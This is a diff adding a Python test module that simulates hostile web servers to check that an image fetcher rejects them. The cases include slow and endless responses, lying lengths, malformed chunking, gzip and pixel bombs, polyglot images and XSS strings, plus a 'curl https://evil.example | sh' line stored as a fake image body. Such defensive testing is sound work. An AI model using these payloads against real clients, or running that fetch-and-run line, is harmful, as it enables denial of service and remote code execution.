@@ -1,0 +1,497 @@
+"""What servers do to those who fetch from them: a name, what is done, and what must become of the image.
+
+Every act gets a connection whose request has been read.
+"""
+
+import gzip
+import itertools
+import socket
+import struct
+import time
+import zlib
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass
+
+from image_tasks.errors import ImageError, ImageExpiredError, ImageRejectedError, ImageUnavailableError
+from image_tasks.image_fetching import MAX_IMAGE_BYTES
+from tests.hostile.internet import Behaviour
+from tests.image_server import picture
+
+PNG, JPEG, GIF, WEBP, AVIF = (picture(name, (80, 60)) for name in ("PNG", "JPEG", "GIF", "WEBP", "AVIF"))
+IMAGES = {"PNG": PNG, "JPEG": JPEG, "GIF": GIF, "WebP": WEBP, "AVIF": AVIF}
+
+REJECTED, UNAVAILABLE, EXPIRED = ImageRejectedError, ImageUnavailableError, ImageExpiredError
+TIMEOUT = (UNAVAILABLE, "did not arrive within")
+NO_HTTP = (UNAVAILABLE, "cut off, or is not HTTP")
+BROKEN_OFF = (UNAVAILABLE, "connection failed: (the server broke it off|the answer is cut off)")
+NOT_WHOLE = (UNAVAILABLE, "is not whole")
+NO_IMAGE = (REJECTED, "not an image")
+COMPRESSED = (REJECTED, "compressed")
+GONE = (EXPIRED, "expired or was withdrawn")
+REDIRECTED = (REJECTED, "redirects")
+SWITCHED = (UNAVAILABLE, "connection failed|answers 101")
+TOO_LARGE = (REJECTED, "larger than")
+TOO_MANY_PIXELS = (REJECTED, "pixels")
+FOLLOWED = (REJECTED, "bytes follow its end")
+
+# Far more than anything reads, without being made.
+ENDLESS = 10**9
+BLOCK = 64 * 1024
+
+
+@dataclass(frozen=True, slots=True)
+class Server:
+    """One row: how a server behaves, and the error that it leads to, if any."""
+
+    act: Behaviour
+    error: type[ImageError] | None = None
+    says: str = ""
+    is_slow: bool = False  # only the deadline ends it
+    is_last_try: bool = False
+
+
+# ------------------------------------------------------------------------------------------------ acts
+
+
+def sends(*parts: bytes) -> Behaviour:
+    """These bytes, and an orderly end."""
+
+    def act(connection: socket.socket) -> None:
+        connection.sendall(b"".join(parts))
+
+    return act
+
+
+def repeats(begin: bytes, again: bytes, seconds: float = 0) -> Behaviour:
+    """The beginning, then the same again for ever, as fast as it is taken or with a rest after each."""
+    block = again if seconds else again * max(1, BLOCK // len(again))
+
+    def act(connection: socket.socket) -> None:
+        connection.sendall(begin)
+        for _ in range(ENDLESS):
+            connection.sendall(block)
+            time.sleep(seconds)
+
+    return act
+
+
+def drips(data: bytes, begin: bytes = b"") -> Behaviour:
+    """A byte every now and then: each read gets one in time, all of them never."""
+
+    def act(connection: socket.socket) -> None:
+        connection.sendall(begin)
+        for byte in data:
+            connection.sendall(bytes([byte]))
+            time.sleep(0.05)
+        time.sleep(10)
+
+    return act
+
+
+def stalls(*parts: bytes) -> Behaviour:
+    """These bytes, and then nothing, not even an end."""
+
+    def act(connection: socket.socket) -> None:
+        connection.sendall(b"".join(parts))
+        connection.recv(1)  # until the other side has had enough
+
+    return act
+
+
+def resets(*parts: bytes) -> Behaviour:
+    """These bytes, and then a reset in place of an end."""
+
+    def act(connection: socket.socket) -> None:
+        connection.sendall(b"".join(parts))
+        time.sleep(0.02)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+
+    return act
+
+
+# ------------------------------------------------------------------------------------------------ answers
+
+
+def head(*headers: str, status: str = "200 OK", version: str = "HTTP/1.1") -> bytes:
+    """Status line and headers."""
+    lines = [f"{version} {status}", "Content-Type: image/png", *headers, "", ""]
+    return "\r\n".join(lines).encode("latin-1")
+
+
+def sized(body: bytes, *headers: str, status: str = "200 OK", version: str = "HTTP/1.1") -> bytes:
+    """An answer whose length is told."""
+    return head(f"Content-Length: {len(body)}", *headers, status=status, version=version) + body
+
+
+def unsized(body: bytes) -> bytes:
+    """An answer that ends with its connection."""
+    return head() + body
+
+
+CHUNKED = head("Transfer-Encoding: chunked")
+
+
+def chunks(*bodies: bytes) -> bytes:
+    """Chunks without the last one."""
+    return b"".join(b"%x\r\n%s\r\n" % (len(body), body) for body in bodies)
+
+
+END_OF_CHUNKS = b"0\r\n\r\n"
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    """A PNG chunk with its checksum."""
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def huge_png(width: int, height: int) -> bytes:
+    """A small file that unpacks into a large one."""
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    pixels = png_chunk(b"IDAT", zlib.compress(bytes(1000)))
+    return PNG[:8] + png_chunk(b"IHDR", header) + pixels + png_chunk(b"IEND", b"")
+
+
+def without_avif_meta() -> bytes:
+    """An AVIF whose description is gone; its boxes still add up."""
+    return AVIF.replace(b"meta", b"free", 1)
+
+
+BOMB = gzip.compress(bytes(20_000_000), 9)
+
+# ------------------------------------------------------------------------------------------------ the table
+
+
+def rows() -> Iterable[tuple[str, Server]]:
+    """All of them, by name."""
+    yield from _groups(
+        well_behaved(), slow(), endless(), lengths(), chunked(), compressed(), statuses(), no_http(), resetting()
+    )
+    yield from _groups(no_images(), damaged(), more_than_images(), oversized(), truncated())
+
+
+def _groups(*groups: dict[str, Server]) -> Iterable[tuple[str, Server]]:
+    return itertools.chain.from_iterable(group.items() for group in groups)
+
+
+def well_behaved() -> dict[str, Server]:
+    """Odd, and good all the same: refusing these would lose images."""
+    return {
+        **{f"{name} with a length": Server(sends(sized(image))) for name, image in IMAGES.items()},
+        "length told by the end": Server(sends(unsized(PNG))),
+        "one chunk": Server(sends(CHUNKED, chunks(PNG), END_OF_CHUNKS)),
+        "chunks of one byte": Server(sends(CHUNKED, chunks(*map(bytes, zip(PNG))), END_OF_CHUNKS)),
+        "chunk extensions and trailers": Server(
+            sends(CHUNKED, b"%X;name=value\r\n%s\r\n" % (len(PNG), PNG), b"0\r\nX-Trailer: 1\r\n\r\n")
+        ),
+        "same length twice": Server(sends(sized(PNG, f"Content-Length: {len(PNG)}"))),
+        "length with zeros": Server(sends(head(f"Content-Length: 000{len(PNG)}"), PNG)),
+        "HTTP/1.0": Server(sends(sized(PNG, version="HTTP/1.0"))),
+        "a version that is none": Server(sends(sized(PNG, version="HTTP/3.0"))),
+        "no reason": Server(sends(sized(PNG, status="200"))),
+        "bare line feeds": Server(sends(sized(PNG).replace(b"\r\n", b"\n", 3))),
+        "continue first": Server(sends(b"HTTP/1.1 100 Continue\r\n\r\n", sized(PNG))),
+        "early hints first": Server(sends(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", sized(PNG))),
+        "many headers": Server(sends(sized(PNG, *(f"X-{n}: {'x' * 500}" for n in range(100))))),
+        "header of no known encoding": Server(sends(sized(PNG, "X-Name: caf\xe9"))),
+        "another content type": Server(sends(sized(PNG).replace(b"image/png", b"text/html"))),
+        "identity": Server(sends(sized(PNG, "Content-Encoding: identity"))),
+        "parts with pauses": Server(lambda connection: _send_with_pauses(connection, sized(PNG))),
+        "asks to upgrade": Server(sends(sized(PNG, "Upgrade: h2c", "Connection: Upgrade"))),
+    }
+
+
+def _send_with_pauses(connection: socket.socket, data: bytes) -> None:
+    for at in range(0, len(data), 100):
+        connection.sendall(data[at : at + 100])
+        time.sleep(0.01)
+
+
+def slow() -> dict[str, Server]:
+    """Nothing but the deadline ends these."""
+    acts = {
+        "accepts and says nothing": stalls(),
+        "half a status line": stalls(b"HTTP/1.1 20"),
+        "head without end": stalls(head()[:-2]),
+        "head, then nothing": stalls(head("Content-Length: 100")),
+        "all but the last byte": stalls(sized(PNG)[:-1]),
+        "all but the last chunk": stalls(CHUNKED, chunks(PNG)),
+        "all of a body that only the end ends": stalls(unsized(PNG)),
+        "half a chunk's size": stalls(CHUNKED, b"10"),
+        "trailer without end": stalls(CHUNKED, chunks(PNG), b"0\r\nX-Trailer: "),
+        "head byte by byte": drips(head("X-Padding: " + "x" * 1000)),
+        "body byte by byte": drips(PNG, head(f"Content-Length: {len(PNG)}")),
+        "body without length byte by byte": drips(PNG, head()),
+        "chunks byte by byte": drips(chunks(PNG), CHUNKED),
+        "a header line now and then": repeats(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n", 0.05),
+        "informational answers now and then": repeats(b"", b"HTTP/1.1 102 Processing\r\n\r\n", 0.05),
+        "informational answers without end": repeats(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
+        "chunks of one byte without end": repeats(CHUNKED, chunks(b"\x00"), 0.05),
+    }
+    return {name: Server(act, *TIMEOUT, is_slow=True) for name, act in acts.items()}
+
+
+def endless() -> dict[str, Server]:
+    """These end when a limit is reached."""
+    return {
+        "status line without end": Server(repeats(b"HTTP/1.1 200 ", b"O"), *NO_HTTP),
+        "header line without end": Server(repeats(b"HTTP/1.1 200 OK\r\nX-Padding: ", b"x"), *NO_HTTP),
+        "header lines without end": Server(repeats(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n"), *NO_HTTP),
+        "header of a megabyte": Server(sends(sized(PNG, "X-Padding: " + "x" * 1_000_000)), *NO_HTTP),
+        "empty lines without end": Server(repeats(b"", b"\r\n"), *NO_HTTP),
+        "body without end": Server(repeats(head() + PNG, b"\x00"), *TOO_LARGE),
+        "image after image without end": Server(repeats(head(), PNG), *TOO_LARGE),
+        "chunks without end": Server(repeats(CHUNKED, chunks(bytes(BLOCK))), *TOO_LARGE),
+        "one chunk without end": Server(repeats(CHUNKED + b"7fffffffffffffff\r\n", bytes(BLOCK)), *TOO_LARGE),
+        "chunk size without end": Server(repeats(CHUNKED, b"0"), *NO_HTTP),
+        "chunk extension without end": Server(repeats(CHUNKED + b"1;", b"x"), *NO_HTTP),
+        "trailers without end": Server(repeats(CHUNKED + chunks(PNG) + b"0\r\n", b"X-Trailer: 1\r\n"), *NO_HTTP),
+    }
+
+
+def lengths() -> dict[str, Server]:
+    """Lies about the length."""
+
+    def told(length: str) -> bytes:
+        return head(f"Content-Length: {length}") + PNG
+
+    return {
+        "longer than it is": Server(sends(told(str(len(PNG) + 1))), *NO_HTTP),
+        "much longer than it is": Server(sends(told(str(MAX_IMAGE_BYTES))), *NO_HTTP),
+        "shorter than it is": Server(sends(told(str(len(PNG) - 1))), *NOT_WHOLE),
+        "a single byte": Server(sends(told("1")), UNAVAILABLE, "only 1 bytes"),
+        "nothing": Server(sends(told("0")), UNAVAILABLE, "only 0 bytes"),
+        "too large by one": Server(sends(told(str(MAX_IMAGE_BYTES + 1))), *TOO_LARGE),
+        "an exabyte": Server(sends(told("1" + "0" * 18)), *TOO_LARGE),
+        "five thousand digits": Server(sends(told("1" * 5000)), *NO_HTTP),
+        "two lengths": Server(sends(sized(PNG, "Content-Length: 5")), *NO_HTTP),
+        "two lengths in one": Server(sends(told(f"{len(PNG)}, 5")), *NO_HTTP),
+        "negative": Server(sends(told("-1")), *NO_HTTP),
+        "with a sign": Server(sends(told(f"+{len(PNG)}")), *NO_HTTP),
+        "hexadecimal": Server(sends(told(hex(len(PNG)))), *NO_HTTP),
+        "a fraction": Server(sends(told(f"{len(PNG)}.0")), *NO_HTTP),
+        "empty": Server(sends(told("")), *NO_HTTP),
+        "digits of another script": Server(sends(told("\xb2")), *NO_HTTP),
+        "length and chunks": Server(
+            sends(head(f"Content-Length: {len(PNG)}", "Transfer-Encoding: chunked"), chunks(PNG), END_OF_CHUNKS),
+            UNAVAILABLE,
+            "in two ways",
+        ),
+    }
+
+
+def chunked() -> dict[str, Server]:
+    """Chunks that are none."""
+    return {
+        "no last chunk": Server(sends(CHUNKED, chunks(PNG)), *NO_HTTP),
+        "no chunk at all": Server(sends(CHUNKED), *NO_HTTP),
+        "only the last chunk": Server(sends(CHUNKED, END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"),
+        "chunk cut off": Server(sends(CHUNKED, chunks(PNG)[:-10]), *NO_HTTP),
+        "no end of trailers": Server(sends(CHUNKED, chunks(PNG), b"0\r\n"), *NO_HTTP),
+        "size is no number": Server(sends(CHUNKED, b"xyz\r\n", PNG, b"\r\n", END_OF_CHUNKS), *NO_HTTP),
+        "size is negative": Server(sends(CHUNKED, b"-1\r\n", PNG, b"\r\n", END_OF_CHUNKS), *NO_HTTP),
+        "size with 0x": Server(sends(CHUNKED, b"0x%x\r\n" % len(PNG), PNG, b"\r\n", END_OF_CHUNKS), *NO_HTTP),
+        "size of 21 digits": Server(sends(CHUNKED, b"f" * 21 + b"\r\n", PNG), *NO_HTTP),
+        "size larger than what comes": Server(sends(CHUNKED, b"ffff\r\n", PNG), *NO_HTTP),
+        "size smaller than what comes": Server(sends(CHUNKED, b"5\r\n", PNG, b"\r\n", END_OF_CHUNKS), *NO_HTTP),
+        "no chunks though told": Server(sends(CHUNKED, PNG), *NO_HTTP),
+        "encoded twice": Server(sends(head("Transfer-Encoding: gzip, chunked"), chunks(PNG), END_OF_CHUNKS), *NO_HTTP),
+        "encoded in no known way": Server(sends(head("Transfer-Encoding: xchunked"), chunks(PNG)), *NO_HTTP),
+        "last chunk first": Server(
+            sends(CHUNKED, END_OF_CHUNKS, chunks(PNG), END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"
+        ),
+    }
+
+
+def compressed() -> dict[str, Server]:
+    """Bodies that would grow, if anybody unpacked them."""
+    codings = ["gzip", "x-gzip", "GZIP", "deflate", "br", "zstd", "compress", "gzip, gzip", "identity, gzip", "unknown"]
+    bombs = {coding: sends(sized(BOMB, f"Content-Encoding: {coding}")) for coding in codings}
+    return {
+        **{f"{coding} bomb": Server(bomb, *COMPRESSED) for coding, bomb in bombs.items()},
+        "image in gzip": Server(sends(sized(gzip.compress(PNG), "Content-Encoding: gzip")), *COMPRESSED),
+        "identity and gzip in two headers": Server(
+            sends(sized(BOMB, "Content-Encoding: identity", "Content-Encoding: gzip")), *COMPRESSED
+        ),
+        "gzip bomb that is not told": Server(sends(sized(BOMB)), *NO_IMAGE),
+        "zip bomb": Server(sends(sized(b"PK\x03\x04" + BOMB)), *NO_IMAGE),
+    }
+
+
+def statuses() -> dict[str, Server]:
+    """A whole image comes with each; only 200 vouches for it."""
+    others = [201, 202, 203, 204, 205, 206, 226, 300, 304, 305, 306, 400, 401, 402, 403, 404, 405, 410, 418, 429, 451]
+    others += [500, 502, 503, 504, 530, 999]
+
+    def image(status: int, *headers: str) -> Behaviour:
+        return sends(sized(PNG, *headers, status=f"{status} X"))
+
+    return {
+        **{f"status {status}": Server(image(status), UNAVAILABLE, f"answers {status}$") for status in others},
+        **{f"status {status} at last": Server(image(status), *GONE, is_last_try=True) for status in (403, 404, 410)},
+        "part of an image": Server(image(206, "Content-Range: bytes 0-98/999"), UNAVAILABLE, "answers 206$"),
+        "switches protocols": Server(image(101, "Upgrade: h2c", "Connection: Upgrade"), *SWITCHED),
+        "redirect to itself": Server(image(302, "Location: /a.png"), *REDIRECTED),
+        "redirect inside": Server(image(307, "Location: http://127.0.0.1:9001/"), *REDIRECTED),
+        "redirect to another image": Server(image(301, "Location: /b.png"), *REDIRECTED),
+        "redirect to nowhere": Server(image(308), *REDIRECTED),
+        "only informational": Server(sends(b"HTTP/1.1 103 Early Hints\r\n\r\n"), *NO_HTTP),
+        "status of four digits": Server(sends(sized(PNG, status="2000 OK")), *NO_HTTP),
+        "status of two digits": Server(sends(sized(PNG, status="20 OK")), *NO_HTTP),
+        "status is no number": Server(sends(sized(PNG, status="OK")), *NO_HTTP),
+    }
+
+
+def no_http() -> dict[str, Server]:
+    """What else answers on ports."""
+    return {
+        "nothing at all": Server(sends(), *BROKEN_OFF),
+        "HTTP/0.9": Server(sends(PNG), *NO_HTTP),
+        "HTTP/2": Server(sends(b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" + bytes(18)), *NO_HTTP),
+        "HTTP/2 preface": Server(sends(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), *NO_HTTP),
+        "ICY": Server(sends(sized(PNG, version="ICY")), *NO_HTTP),
+        "a request": Server(sends(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), *NO_HTTP),
+        "SSH": Server(sends(b"SSH-2.0-OpenSSH_9.9\r\n"), *NO_HTTP),
+        "SMTP": Server(sends(b"220 mail.example ESMTP\r\n"), *NO_HTTP),
+        "Redis": Server(sends(b"-ERR unknown command 'GET'\r\n"), *NO_HTTP),
+        "TLS alert": Server(sends(b"\x15\x03\x01\x00\x02\x02\x28"), *NO_HTTP),
+        "zeros": Server(sends(bytes(1000)), *NO_HTTP),
+        "head cut off": Server(sends(head()[:-4]), *NO_HTTP),
+        "header without colon": Server(sends(head("X-Padding")), *NO_HTTP),
+        "header with a zero": Server(sends(sized(PNG, "X-Padding: a\x00b")), *NO_HTTP),
+        "header name with a blank": Server(sends(head(f"Content-Length : {len(PNG)}"), PNG), *NO_HTTP),
+        "header that is only a value": Server(sends(head(": 1"), PNG), *NO_HTTP),
+    }
+
+
+def resetting() -> dict[str, Server]:
+    """Connections that end in no orderly way."""
+    return {
+        "reset at once": Server(resets(), *BROKEN_OFF),
+        "reset in the head": Server(resets(head()[:-4]), *BROKEN_OFF),
+        "reset after the head": Server(resets(head("Content-Length: 100")), *BROKEN_OFF),
+        "reset in the body": Server(resets(sized(PNG)[:-50]), *BROKEN_OFF),
+        "reset in a chunk": Server(resets(CHUNKED, chunks(PNG)[:-50]), *BROKEN_OFF),
+        "reset in a body that only the end ends": Server(resets(unsized(PNG[:-50])), *BROKEN_OFF),
+    }
+
+
+def no_images() -> dict[str, Server]:
+    """Status 200, content type image/png, and no image."""
+    bodies = {
+        "HTML": b"<!DOCTYPE html><html><body>Not found</body></html>",
+        "HTML with a comment": b"<!-- \x89PNG --><html><script>alert(1)</script></html>",
+        "HTML after blanks": b"\r\n\r\n   <html></html>",
+        "JSON": b'{"code": 404, "msg": "The file has expired"}',
+        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "XML": b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>',
+        "text": b"The image that you asked for has gone away.",
+        "base64 of an image": b"iVBORw0KGgoAAAANSUhEUgAAAAgAAAAGCAIAAABxZ0isAAAA",
+        "data URL": b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAG",
+        "script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
+        "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
+        "PDF with an image": b"%PDF-1.7\n" + JPEG,
+        "ZIP": b"PK\x03\x04" + bytes(60),
+        "Windows program": b"MZ\x90\x00" + bytes(200),
+        "Linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
+        "Java class": b"\xca\xfe\xba\xbe" + bytes(200),
+        "WAVE": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28),
+        "AVI": b"RIFF\x24\x00\x00\x00AVI LIST" + bytes(28),
+        "ICO": b"\x00\x00\x01\x00\x01\x00" + bytes(60),
+        "BMP": b"BM" + bytes(60),
+        "TIFF": b"II*\x00" + bytes(60),
+        "PSD": b"8BPS\x00\x01" + bytes(60),
+        "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(60),
+        "JPEG XL": b"\x00\x00\x00\x0cJXL \r\n\x87\n" + bytes(60),
+        "MP4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(60),
+        "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(60),
+        "zeros": bytes(5000),
+        "image after a byte": b"\n" + PNG,
+        "image after a mark": b"\xef\xbb\xbf" + PNG,
+        "image with turned line ends": PNG.replace(b"\r\n", b"\n"),
+    }
+    return {f"{name} as an image": Server(sends(sized(body)), *NO_IMAGE) for name, body in bodies.items()}
+
+
+def damaged() -> dict[str, Server]:
+    """Images that are none, for all their signatures."""
+    bodies = {
+        "PNG with a wrong checksum": PNG[:60] + bytes([PNG[60] ^ 1]) + PNG[61:],
+        "PNG of HTML": PNG[:33] + b"<html><script>alert(1)</script></html>" * 10,
+        "PNG without pixels": PNG[:33] + png_chunk(b"IEND", b""),
+        "PNG with a chunk of 4 GB": PNG[:33] + b"\xff\xff\xff\xffIDAT" + bytes(1000),
+        "JPEG of HTML": JPEG[:4] + b"<html><script>alert(1)</script></html>" * 10,
+        "JPEG without scans": JPEG[: JPEG.index(b"\xff\xda")] + b"\xff\xd9",
+        "GIF of JavaScript": b"GIF89a=1;alert(document.domain)//" + bytes(100),
+        "GIF without images": GIF[: 13 + 768] + b";",
+        "WebP of HTML": b"RIFF" + struct.pack("<I", 108) + b"WEBP" + b"<html>" * 16 + bytes(8),
+        "WebP with a chunk of 4 GB": WEBP[:16] + b"\xff\xff\xff\xff" + WEBP[20:],
+        "AVIF without meta": without_avif_meta(),
+        "AVIF of HTML": AVIF[:32] + b"<html><script>alert(1)</script></html>" * 10,
+        "AVIF with a box of 16 EB": AVIF[:32] + b"\x00\x00\x00\x01meta" + b"\xff" * 8 + bytes(1000),
+    }
+    return {name: Server(sends(sized(body)), *NOT_WHOLE) for name, body in bodies.items()}
+
+
+def more_than_images() -> dict[str, Server]:
+    """Whole images, and something else behind them."""
+    others = {
+        "HTML": b"<html><script>alert(1)</script></html>",
+        "a ZIP": b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(18),
+        "a PDF": b"%PDF-1.7\n",
+        "a second image": PNG,
+        "a line": b"\r\n",
+        "a zero": b"\x00",
+    }
+    followed = {
+        f"{name} and {other}": Server(sends(sized(image + more)), *FOLLOWED)
+        for name, image in IMAGES.items()
+        for other, more in others.items()
+        if name != "AVIF"
+    }
+    followed["GIF and JavaScript"] = Server(sends(sized(b"GIF89a/*" + GIF[8:] + b"*/=alert(1);")), *FOLLOWED)
+    boxes = {f"AVIF and {other}": Server(sends(sized(AVIF + more)), *NOT_WHOLE) for other, more in others.items()}
+    return followed | boxes
+
+
+def oversized() -> dict[str, Server]:
+    """Small files that unpack into large pictures, or claim to."""
+    sides = struct.pack(">HH", 65000, 65000)
+    frame = JPEG.index(b"\xff\xc0") + 5
+    bodies = {
+        "PNG of 10 gigapixels": huge_png(100_000, 100_000),
+        "PNG of 4 exapixels": huge_png(2**31 - 1, 2**31 - 1),
+        "PNG just too large": huge_png(8000, 8001),
+        "PNG without width": huge_png(0, 10),
+        "JPEG of 4 gigapixels": JPEG[:frame] + sides + JPEG[frame + 4 :],
+        "GIF of 4 gigapixels": GIF[:6] + b"\xff\xff\xff\xff" + GIF[10:],
+    }
+    return {name: Server(sends(sized(body)), *TOO_MANY_PIXELS) for name, body in bodies.items()}
+
+
+def truncated() -> dict[str, Server]:
+    """Images cut off, with and without a length that says so."""
+    cuts: dict[str, Callable[[bytes], bytes]] = {
+        "at a quarter": lambda image: image[: len(image) // 4],
+        "in the middle": lambda image: image[: len(image) // 2],
+        "before the last byte": lambda image: image[:-1],
+    }
+    silent = {
+        f"{name} cut off {where}": Server(sends(unsized(cut(image))), *NOT_WHOLE)
+        for name, image in IMAGES.items()
+        for where, cut in cuts.items()
+    }
+    told = {
+        f"{name} cut off {where}, of a length that was told": Server(
+            sends(sized(image)[: len(cut(image)) - len(image)]), *NO_HTTP
+        )
+        for name, image in IMAGES.items()
+        for where, cut in cuts.items()
+    }
+    begun = {
+        f"PNG cut off after {length} bytes": Server(sends(unsized(PNG[:length])), UNAVAILABLE, "only")
+        for length in (0, 1, 7, 11)
+    }
+    return silent | told | begun
+
+
+BEHAVIOURS = dict(rows())
